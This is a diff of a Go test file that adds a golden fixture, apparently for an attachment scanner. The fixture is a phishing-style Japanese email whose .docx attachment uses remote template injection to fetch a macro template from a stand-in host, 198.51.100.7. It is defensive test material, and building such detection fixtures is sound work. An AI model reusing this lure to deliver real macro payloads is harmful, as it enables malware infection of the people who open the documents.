@@ -357,6 +357,18 @@ l.click();
 			"Content-Transfer-Encoding: base64\r\n\r\nbmFtZSxkZXB0CnNhdG8sc2FsZXMK!\r\n"
 		return goldenFiles{eml: []byte(raw)}
 	}},
+	// Template injection: the document fetches a macro template at open.
+	{"36-remote-template", func(t *testing.T, k *kit) goldenFiles {
+		rt := "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+		docx := mkZip(t,
+			zipEntry{"[Content_Types].xml", []byte(`<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`)},
+			zipEntry{"_rels/.rels", []byte(`<Relationships/>`)},
+			zipEntry{"word/document.xml", []byte(`<w:document/>`)},
+			zipEntry{"word/_rels/settings.xml.rels", []byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="` + rt + `attachedTemplate" Target="http://198.51.100.7/templates/report.dotm" TargetMode="External"/></Relationships>`)})
+		m := letter{id: "36-remote-template", subject: "会議資料", text: "会議資料をお送りします。\r\n",
+			parts: []mimePart{attachment("会議資料.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", docx)}}
+		return goldenFiles{eml: m.bytes()}
+	}},
 }
 
 // goldenSandbox configures a sandbox that is never contacted: golden
